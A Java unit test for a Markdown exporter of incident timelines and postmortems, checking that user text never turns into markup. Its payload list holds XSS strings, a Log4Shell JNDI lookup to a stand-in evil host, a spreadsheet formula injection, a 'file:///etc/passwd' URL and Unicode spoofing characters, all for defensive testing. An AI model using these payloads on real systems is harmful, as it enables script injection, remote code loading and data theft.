package org.incidenttimeline.projections.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collection;
import java.util.HashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.commonmark.ext.autolink.AutolinkExtension;
import org.commonmark.ext.footnotes.FootnotesExtension;
import org.commonmark.ext.front.matter.YamlFrontMatterExtension;
import org.commonmark.ext.gfm.strikethrough.StrikethroughExtension;
import org.commonmark.ext.gfm.tables.TableCell;
import org.commonmark.ext.gfm.tables.TablesExtension;
import org.commonmark.ext.task.list.items.TaskListItemsExtension;
import org.commonmark.node.Code;
import org.commonmark.node.HardLineBreak;
import org.commonmark.node.Heading;
import org.commonmark.node.Node;
import org.commonmark.node.SoftLineBreak;
import org.commonmark.node.Text;
import org.commonmark.parser.Parser;
import org.incidenttimeline.projections.postmortem.PostmortemDraft;
import org.incidenttimeline.projections.story.Log;
import org.incidenttimeline.projections.story.Samples;
import org.incidenttimeline.projections.wording.People;
import org.junit.jupiter.api.Test;

/** Whatever a user writes, in any field of any event, the document has the structure that harmless words give it. */
class HostileTextTest {
    private static final String HARMLESS = "Harmless";

    private static final List<String> ATOMS = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<!-- comment -->",
            "</td></tr></table>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<https://evil.example/>",
            "<a@evil.example>",
            "<?php ?>",
            "<![CDATA[x]]>",
            "<!DOCTYPE html>",
            "<details>",
            "<pre>",
            "&lt;b&gt;",
            "&#60;b&#62;",
            "&amp;",
            "&copy;",
            "![x](https://evil.example/x.png)",
            "[x](https://evil.example)",
            "[x](javascript:alert(1))",
            "[x][1]",
            "[1]: https://evil.example",
            "[^1]",
            "[^1]: note",
            "^[note]",
            "[x]",
            "[ ] task",
            "[[wiki]]",
            "![x][1]",
            "# heading",
            "###### heading",
            "#hash",
            "heading\n===",
            "heading\n---",
            "---",
            "***",
            "___",
            "===",
            "- - -",
            "- item",
            "* item",
            "+ item",
            "1. item",
            "1) item",
            "999999999. item",
            "0. item",
            "-\titem",
            "- [ ] task",
            "> quote",
            ">quote",
            "    code",
            "\tcode",
            "```",
            "~~~",
            "```js\nx\n```",
            "`code`",
            "``",
            "`",
            "a`b`c",
            "`|`",
            "*a*",
            "**a**",
            "***a***",
            "_a_",
            "__a__",
            "a_b_c",
            "~a~",
            "~~a~~",
            "==a==",
            "^a^",
            "$a$",
            "$$a$$",
            "$`a`$",
            "|",
            "||",
            "\\|",
            "\\\\|",
            "a | b | c",
            "| a | b |\n| --- | --- |\n| c | d |",
            ":-:",
            "--- | ---",
            "|-|",
            "http://evil.example",
            "https://evil.example/?q=a|b",
            "www.evil.example",
            "WWW.evil.example",
            "ftp://evil.example",
            "mailto:a@evil.example",
            "a@evil.example",
            "evil.example",
            "//evil.example",
            "x.http://evil.example",
            "(https://evil.example)",
            "\"https://evil.example\"",
            "https://evil.example/`x`",
            "https://e.example/\\|x",
            "@here",
            "@team/all",
            "cc @alice, @bob.",
            "#12",
            "owner/repo#12",
            "GH-12",
            ":tada:",
            ":+1:",
            "x:100:",
            ": term",
            "{{ 7*7 }}",
            "{% include x %}",
            "${jndi:ldap://evil.example/x}",
            "{#id .class}",
            "\\",
            "\\\\",
            "a\\",
            "\\\n",
            "\\`",
            "\\`x`",
            "!",
            "!!",
            "a!",
            "(",
            ")",
            "]",
            "[",
            "](x)",
            "a](https://evil.example)",
            "'",
            "\"",
            "...",
            "---\ntitle: x\n---",
            "+++\nx\n+++",
            "%\nx",
            "a\nb",
            "a\n\nb",
            "a\n\n\n# b",
            "\n- a\n  - b",
            "a\r\nb",
            "a\rb",
            "a\n\n    code",
            "a\n<div>\n",
            "a\n\n<div>",
            "a  \nb",
            "a\\\nb",
            "a\n|b|\n|-|",
            "a\n-|-\nb",
            "a\n: b",
            "a\n1. b",
            " a",
            "  a",
            "a ",
            "a\tb",
            "\ta",
            "a\u00a0b",
            "\u00a0",
            "\u3000a",
            "=cmd|'/C calc'!A0",
            "@SUM(1)",
            "+1",
            "-1",
            "\u202Egnp.exe",
            "a\u200Bb",
            "a\u2066b\u2069",
            "\uFEFFa",
            "a\u00ADb",
            "a\u2028b",
            "a\u2029# b",
            "\u061Ca",
            "a\u034Fb",
            "\u3164",
            "\u2800",
            "a\uDB40\uDC41b",
            "a\uFE0Fb",
            "\u26A0\uFE0F",
            "\uE000",
            "\u0301a",
            "javascript:alert(1)",
            "data:text/html,x",
            "file:///etc/passwd",
            "vbscript:x",
            "JaVaScRiPt:x",
            "x:y",
            "14:02");

    private static Set<String> payloads() {
        var payloads = new LinkedHashSet<String>();
        for (String atom : ATOMS) {
            payloads.add(atom);
            payloads.add("a\n" + atom + "\nb");
        }
        return payloads;
    }

    @Test
    void user_text_never_becomes_markup() {
        assertThat(payloads()).hasSizeGreaterThan(300);
        assertInert(payloads(), MarkdownWriter.Citations.LINKED);
    }

    @Test
    void user_text_never_becomes_markup_where_citations_are_not_links() {
        assertInert(ATOMS, MarkdownWriter.Citations.NUMBERED);
    }

    private static void assertInert(Collection<String> payloads, MarkdownWriter.Citations citations) {
        // Few differ: only by which fields take the payload at all.
        var models = new HashMap<String, Node>();
        for (String payload : payloads) {
            var harmless = documents(HARMLESS, payload);
            var hostile = documents(payload, payload);
            for (var i = 0; i < hostile.size(); i++) {
                var markdown = MarkdownWriter.write(hostile.get(i), citations);
                var parsed = parse(markdown);
                var model = models.computeIfAbsent(
                        MarkdownWriter.write(harmless.get(i), citations), HostileTextTest::parse);

                assertThat(shape(parsed).equals(shape(model)))
                        .as("structure with %s", payload)
                        .isTrue();
                var texts = texts(parsed, false, payload);
                var expected = texts(model, true, payload);
                assertThat(texts).as("blocks with %s", payload).hasSameSizeAs(expected);
                for (var t = 0; t < texts.size(); t++) {
                    assertThat(texts.get(t)).as("text with %s", payload).isEqualTo(expected.get(t));
                }
                assertThat(markdown.codePoints().filter(c -> Character.isISOControl(c) && c != '\n'))
                        .as("control characters with %s", payload)
                        .isEmpty();
            }
        }
    }

    @Test
    void text_that_draws_links_and_mentions_after_parsing_stands_in_code() {
        var parsed = parse(MarkdownWriter.write(
                documents("see https://evil.example/a, @alice #12 or :tada:", "x")
                        .getFirst(),
                MarkdownWriter.Citations.LINKED));

        assertThat(nodes(parsed).filter(Code.class::isInstance).map(n -> ((Code) n).getLiteral()))
                .contains("https://evil.example/a", "@alice", "#12", ":tada:");
    }

    private static List<Document> documents(String words, String refusedIf) {
        var log = Log.of(Samples.ofEveryEvent(words, refusedIf));
        return List.of(
                TimelineDocument.of(log.timeline(), People.named()),
                PostmortemDocument.of(PostmortemDraft.of(log.incident()), People.named()));
    }

    private static Node parse(String markdown) {
        return Parser.builder()
                .extensions(List.of(
                        TablesExtension.create(),
                        AutolinkExtension.create(),
                        FootnotesExtension.builder().inlineFootnotes(true).build(),
                        StrikethroughExtension.create(),
                        TaskListItemsExtension.create(),
                        YamlFrontMatterExtension.create()))
                .build()
                .parse(markdown);
    }

    /** The tree without its words: text, code and line breaks are text. */
    private static String shape(Node node) {
        var shapes = new ArrayList<String>();
        children(node).forEach(n -> {
            var next = isText(n) ? "text" : n.getClass().getSimpleName() + shape(n);
            if (!next.equals("text") || shapes.isEmpty() || !shapes.getLast().equals("text")) {
                shapes.add(next);
            }
        });
        return shapes.toString();
    }

    /** The words of every block; in the model the harmless word is replaced by what the payload should look like. */
    private static List<String> texts(Node document, boolean model, String payload) {
        return nodes(document)
                .filter(n -> children(n).anyMatch(HostileTextTest::isText))
                .map(n -> {
                    var visible = VisibleText.of(payload);
                    var expected = oneLine(n) ? visible.replace("\n", " ⏎ ") : visible;
                    var text = children(n).map(HostileTextTest::text).collect(Collectors.joining());
                    return stripLines(model ? text.replace(HARMLESS, expected) : text);
                })
                .toList();
    }

    private static boolean oneLine(Node node) {
        return node instanceof TableCell || node instanceof Heading;
    }

    private static String stripLines(String text) {
        return Arrays.stream(text.split("\n", -1)).map(String::stripTrailing).collect(Collectors.joining("\n"));
    }

    private static boolean isText(Node node) {
        return node instanceof Text
                || node instanceof Code
                || node instanceof HardLineBreak
                || node instanceof SoftLineBreak;
    }

    private static String text(Node node) {
        return switch (node) {
            case Text t -> t.getLiteral();
            case Code c -> c.getLiteral();
            case HardLineBreak _ -> "\n";
            case SoftLineBreak _ -> "(soft break)";
            default -> "(" + node.getClass().getSimpleName() + ")";
        };
    }

    private static Stream<Node> nodes(Node node) {
        return Stream.concat(Stream.of(node), children(node).flatMap(HostileTextTest::nodes));
    }

    private static Stream<Node> children(Node node) {
        return Stream.iterate(node.getFirstChild(), n -> n != null, Node::getNext);
    }
}
